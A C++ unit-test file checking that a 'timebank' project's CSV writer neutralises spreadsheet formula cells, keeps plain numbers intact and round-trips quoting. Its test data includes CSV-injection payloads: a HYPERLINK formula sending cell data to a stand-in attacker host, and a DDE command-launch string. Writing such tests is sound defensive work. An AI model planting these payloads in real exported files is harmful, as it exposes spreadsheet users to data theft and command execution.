// The one CSV writer (services/common/csv_writer.h): hostile cells come back, read by
// a CSV reader, as text a spreadsheet will not run; plain numbers stay numbers; quoting
// round-trips; and the CSV files the programs write go through it.
#include "services/common/csv_writer.h"

#include <cstdio>

#include "clients/common/contribution_import.h"
#include "clients/common/csv_reader.h"
#include "clients/common/table.h"
#include "gtest/gtest.h"

namespace timebank {
namespace {

std::vector<std::string> ReadBack(const std::string& csv) {
  cli::CsvReader reader(csv);
  cli::CsvRecord record;
  EXPECT_TRUE(reader.Next(&record));
  EXPECT_TRUE(record.error.empty()) << record.error;
  cli::CsvRecord extra;
  EXPECT_FALSE(reader.Next(&extra)) << "one row was written";
  return record.fields;
}

// Cells a spreadsheet would run: each reads back as itself behind an apostrophe.
const std::vector<std::string>& HostileCells() {
  static const auto* cells = new std::vector<std::string>{
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
      "=1+1",
      "+44 20 7946 0000",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(A1:A9)",
      "\t=1+1",
      "\r=1+1",
      "-1h30m",
      "-",
      "=",
      "-12.5.3",
      "-.5",
      "-12.",
  };
  return *cells;
}

TEST(CsvWriterTest, FormulaCellsReadBackAsTheTextTheyAre) {
  for (const std::string& cell : HostileCells()) {
    CsvWriter csv;
    csv.AddRow({"before", cell, "after"});
    const std::vector<std::string> back = ReadBack(csv.text());
    ASSERT_EQ(back.size(), 3u) << csv.text();
    EXPECT_EQ(back[0], "before");
    EXPECT_EQ(back[1], "'" + cell) << csv.text();
    EXPECT_EQ(back[2], "after");
  }
}

TEST(CsvWriterTest, PlainNumbersStayNumbers) {
  for (const std::string cell : {"-12.50", "-90", "0", "128.74", "-0.01", "42"}) {
    CsvWriter csv;
    csv.AddRow({cell});
    EXPECT_EQ(csv.text(), cell + "\r\n");
    EXPECT_TRUE(CsvWriter::IsPlainNumber(cell)) << cell;
  }
  for (const std::string cell : {"", "-", "1,000", "1e5", "-1h", "12.", ".5", "- 1", "0x1F"}) {
    EXPECT_FALSE(CsvWriter::IsPlainNumber(cell)) << cell;
  }
}

TEST(CsvWriterTest, QuotingRoundTrips) {
  const std::vector<std::string> row = {"a, b", "say \"hi\"",   "two\nlines",
                                        "",     "Łódź 🙂", "=x, \"y\"\r\nz"};
  CsvWriter csv;
  csv.AddRow(row);
  std::vector<std::string> back = ReadBack(csv.text());
  ASSERT_EQ(back.size(), row.size());
  for (size_t i = 0; i + 1 < row.size(); ++i) EXPECT_EQ(back[i], row[i]);
  EXPECT_EQ(back.back(), "'" + row.back());
  EXPECT_EQ(csv.text().substr(csv.text().size() - 2), "\r\n");
}

TEST(CsvWriterTest, TablesPrintTheirCsvThroughTheWriter) {
  cli::Table t({"member", "memo", "change"});
  t.Add({"Alice", "=HYPERLINK(\"x\")", "-12.50"});
  std::FILE* f = std::tmpfile();
  ASSERT_NE(f, nullptr);
  t.PrintCsv(f);
  std::rewind(f);
  std::string out(4096, '\0');
  out.resize(std::fread(out.data(), 1, out.size(), f));
  std::fclose(f);
  CsvWriter expected;
  expected.AddRow({"member", "memo", "change"});
  expected.AddRow({"Alice", "=HYPERLINK(\"x\")", "-12.50"});
  EXPECT_EQ(out, expected.text());
  EXPECT_NE(out.find("\"'=HYPERLINK(\"\"x\"\")\",-12.50\r\n"), std::string::npos) << out;
}

TEST(CsvWriterTest, AnImportReportReadsBackAsTheCellsItReported) {
  for (const std::string& cell : HostileCells()) {
    CsvWriter csv;
    csv.AddRow({cell});
    EXPECT_EQ(CsvWriter::WithoutNeutraliser(ReadBack(csv.text()).at(0)), cell);
  }
  EXPECT_EQ(CsvWriter::WithoutNeutraliser("'tis the season"), "'tis the season");
  EXPECT_EQ(CsvWriter::WithoutNeutraliser("'-12.50"), "'-12.50");  // never written so
  // A corrected report imports its cells as they were before the writer touched them.
  CsvWriter file;
  file.AddRow(
      {"member_number", "date", "hours", "organisation", "coproduction_type", "description"});
  file.AddRow({"M1", "2026-11-20", "2", "1", "co-design", "-2 hours late, =sorry"});
  cli::OrganisationNames orgs;
  orgs.names = {{1, "Carers Centre"}};
  orgs.by_lower_name = {{"carers centre", 1}};
  absl::StatusOr<cli::ParsedImport> parsed = cli::ParseContributionCsv(file.text(), orgs);
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  ASSERT_EQ(parsed->lines.size(), 1u);
  EXPECT_EQ(parsed->lines[0].error, "");
  EXPECT_EQ(parsed->lines[0].row.description(), "-2 hours late, =sorry");
}

}  // namespace
}  // namespace timebank
